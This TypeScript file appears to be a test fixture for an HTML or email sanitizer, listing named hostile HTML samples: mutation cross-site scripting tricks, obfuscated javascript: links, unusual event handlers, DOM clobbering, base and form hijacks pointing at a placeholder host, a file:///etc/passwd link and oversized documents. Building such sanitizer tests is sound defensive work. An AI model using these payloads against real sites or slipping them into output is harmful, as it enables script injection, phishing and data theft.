import { HARM } from './mail-case.ts'

const harm = (name: string) => `${HARM}('${name}')`
const HARM_URL = 'https://harm.example'

/**
 * Names and content of hostile HTML that parsers may read differently, that uses unusual elements, events and links, or
 * that is very deep or very large.
 */
export const hostileStructures: readonly [string, string][] = [
  [
    'mutation-annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${harm('mutation-annotation')}></style></annotation-xml></math>`,
  ],
  [
    'mutation-desc',
    `<svg><desc><noscript></desc><img src=x onerror=${harm('mutation-desc')}></noscript></svg>`,
  ],
  [
    'mutation-title',
    `<svg><title><style><img src="</style><img src=x onerror=${harm('mutation-title')}>"></title></svg>`,
  ],
  [
    'mutation-select',
    `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${harm('mutation-select')}>">`,
  ],
  [
    'mutation-table',
    `<table><caption><svg><title><table><td><style><img title="</style><img src=x onerror=${harm('mutation-table')}>">`,
  ],
  [
    'mutation-noembed',
    `<noembed><img title="</noembed><img src=x onerror=${harm('mutation-noembed')}>"></noembed>`,
  ],
  [
    'mutation-noframes',
    `<noframes><img title="</noframes><img src=x onerror=${harm('mutation-noframes')}>"></noframes>`,
  ],
  [
    'mutation-iframe',
    `<iframe><img title="</iframe><img src=x onerror=${harm('mutation-iframe')}>"></iframe>`,
  ],
  [
    'mutation-paragraph',
    `<svg></p><style><a id="</style><img src=1 onerror=${harm('mutation-paragraph')}>">`,
  ],
  [
    'mutation-comment',
    `<!-- ><img src=x onerror=${harm('mutation-comment')}> --><!--><img src=x onerror=${harm('mutation-comment')}>-->`,
  ],
  [
    'mutation-instruction',
    `<?xml-stylesheet href="javascript:${harm('mutation-instruction')}"?><img src=x onerror=${harm('mutation-instruction')}>`,
  ],
  ['mutation-doctype', `<!DOCTYPE html [<!ENTITY x "<script>${harm('mutation-doctype')}</script>">]>&x;`],
  [
    'mutation-nul',
    `<scr\u0000ipt>${harm('mutation-nul')}</scr\u0000ipt><img src=x o\u0000nerror=${harm('mutation-nul')}>`,
  ],
  ['mutation-form-feed', `<img\fsrc=x\fonerror=${harm('mutation-form-feed')}>`],
  [
    'mutation-duplicate',
    `<img src=x src=y onerror="" onerror="${harm('mutation-duplicate')}" ONERROR=${harm('mutation-duplicate')}>`,
  ],
  ['mutation-unclosed-tag', `<img src=x onerror=${harm('mutation-unclosed-tag')}`],
  ['mutation-unclosed-quote', `<a href="x onmouseover=${harm('mutation-unclosed-quote')}>press`],
  [
    'mutation-conditional',
    `<!--[if gte IE 4]><script>${harm('mutation-conditional')}</script><![endif]--><![if true]><b onclick="${harm('mutation-conditional')}">b</b><![endif]>`,
  ],
  [
    'shadow-root',
    `<div><template shadowrootmode="open"><img src=x onerror=${harm('shadow-root')}><slot></slot></template></div>`,
  ],
  ['shadow-old', `<div><template shadowroot="open"><script>${harm('shadow-old')}</script></template></div>`],
  [
    'custom-element',
    `<x-harm is="harm" onclick="${harm('custom-element')}" oncontentvisibilityautostatechange=${harm('custom-element')} style=content-visibility:auto>x</x-harm>`,
  ],
  [
    'popover',
    `<button popovertarget=x>press</button><div popover id=x onbeforetoggle=${harm('popover')}>p</div>`,
  ],
  [
    'dialog-open',
    `<dialog open style="position:fixed;inset:0"><form method=dialog action="${HARM_URL}"><button>Sign in</button></form></dialog>`,
  ],
  [
    'speculation',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${HARM_URL}/s"]}]}</script>`,
  ],
  ['import-map', `<script type="importmap">{"imports":{"react":"${HARM_URL}/r.js"}}</script>`],
  ['module', `<script type="module">${harm('module')}</script><script nomodule>${harm('module')}</script>`],
  [
    'event-unusual',
    `<b onpointerrawupdate=${harm('event-unusual')} onbeforematch=${harm('event-unusual')} onscrollend=${harm('event-unusual')} onwebkittransitionend=${harm('event-unusual')}>b</b>`,
  ],
  [
    'event-access-key',
    `<input type=hidden accesskey=x onclick=${harm('event-access-key')}><b accesskey=x tabindex=1 onfocus=${harm('event-access-key')} autofocus>b</b>`,
  ],
  [
    'event-editable',
    `<div contenteditable autofocus oninput=${harm('event-editable')} onbeforeinput=${harm('event-editable')}>write</div>`,
  ],
  [
    'event-drag',
    `<b draggable=true ondragstart=${harm('event-drag')} oncopy=${harm('event-drag')} onpaste=${harm('event-drag')}>b</b>`,
  ],
  ['base-elsewhere', `<base href="${HARM_URL}/" target="_top"><img src="b.png"><a href="next">press</a>`],
  ['base-late', `</p></body></html><base href="${HARM_URL}/late/"><img src="l.png">`],
  [
    'target-parent',
    `<a href="javascript:top.${harm('target-parent')}" target="_parent">press</a><form target=_top action="${HARM_URL}"><button>press</button></form>`,
  ],
  [
    'target-named',
    `<a href="javascript:${harm('target-named')}" target="enamel">press</a><map name=m><area shape=default href="javascript:${harm('target-named')}"></map><img usemap=#m src=x>`,
  ],
  [
    'link-download',
    `<a href="data:text/html,<script>${harm('link-download')}</script>" download="x.html">press</a>`,
  ],
  [
    'link-blob',
    `<a href="blob:null/${harm('link-blob')}">press</a><a href="filesystem:x">press</a><a href="view-source:javascript:${harm('link-blob')}">press</a>`,
  ],
  [
    'link-feed',
    `<a href="feed:javascript:${harm('link-feed')}">press</a><a href="jar:javascript:${harm('link-feed')}!/">press</a><a href="intent://x#Intent;scheme=javascript;end">press</a>`,
  ],
  [
    'link-url-encoded',
    `<a href="%6A%61%76ascript:${harm('link-url-encoded')}">press</a><a href="javascript%3A${harm('link-url-encoded')}">press</a>`,
  ],
  ['link-newlines', `<a href="\n\rjava\r\nscr\tipt:${harm('link-newlines')}">press</a>`],
  [
    'link-numeric',
    `<a href="&#0000106&#0000097&#0000118&#0000097script&#58${harm('link-numeric')}">press</a>`,
  ],
  [
    'link-wide',
    `<a href="ｊavascript:${harm('link-wide')}">press</a><a href="\u00a0javascript:${harm('link-wide')}">press</a>`,
  ],
  [
    'link-file',
    `<a href="file:///etc/passwd">press</a><img src="file:///etc/passwd"><a href="about:blank#${harm('link-file')}">press</a>`,
  ],
  [
    'svg-set',
    `<svg><a><set attributeName="href" to="javascript:${harm('svg-set')}"/><text y=9>press</text></a></svg>`,
  ],
  [
    'svg-handler',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${harm('svg-handler')}</handler></svg>`,
  ],
  [
    'svg-script-href',
    `<svg><script href="data:,${harm('svg-script-href')}"/><script xlink:href="data:,${harm('svg-script-href')}"/></svg>`,
  ],
  ['svg-begin', `<svg><animate onbegin=${harm('svg-begin')} attributeName=x dur=1s></svg>`],
  [
    'form-outside',
    `<form id=f action="${HARM_URL}/f"></form><button form=f formaction="javascript:${harm('form-outside')}">press</button>`,
  ],
  [
    'form-autosubmit',
    `<form action="${HARM_URL}/auto"><input name=q autofocus onfocus="this.form.submit()"><keygen><isindex action="${HARM_URL}" prompt=x></form>`,
  ],
  [
    'clobber-deep',
    `<form id=document><input name=cookie><img name=body><a id=defaultView name=top href="x:${harm('clobber-deep')}"></form><a id=enamel></a><a id=enamel name=config href="${HARM_URL}"></a>`,
  ],
  [
    'nested-deep',
    `${'<div>'.repeat(3000)}<img src=x onerror=${harm('nested-deep')}>${'</div>'.repeat(3000)}`,
  ],
  ['nested-tables', `${'<table><tr><td>'.repeat(400)}<script>${harm('nested-tables')}</script>`],
  [
    'nested-formatting',
    `${'<b><i><font color=red>'.repeat(600)}<b onclick=${harm('nested-formatting')}>b</b>`,
  ],
  ['nested-quotes', `${'<blockquote>'.repeat(1500)}<meta http-equiv=refresh content="0;url=${HARM_URL}">`],
  [
    'large-attribute',
    `<a title="${'x'.repeat(300_000)}" href="javascript:${harm('large-attribute')}">press</a>`,
  ],
  [
    'large-attributes',
    `<img ${Array.from({ length: 5000 }, (_, index) => `a${index}=1`).join(' ')} src=x onerror=${harm('large-attributes')}>`,
  ],
  ['large-text', `<p>${'word '.repeat(60_000)}</p><img src=x onerror=${harm('large-text')}>`],
  ['large-pictures', `<img src="${HARM_URL}/many.png">`.repeat(2000)],
  ['large-style', `<div style="${'color:red;'.repeat(20_000)}background:url(${HARM_URL}/s.png)">s</div>`],
  [
    'large-entities',
    `${'&amp;lt;script&amp;gt;'.repeat(10_000)}&lt;script&gt;${harm('large-entities')}&lt;/script&gt;`,
  ],
]
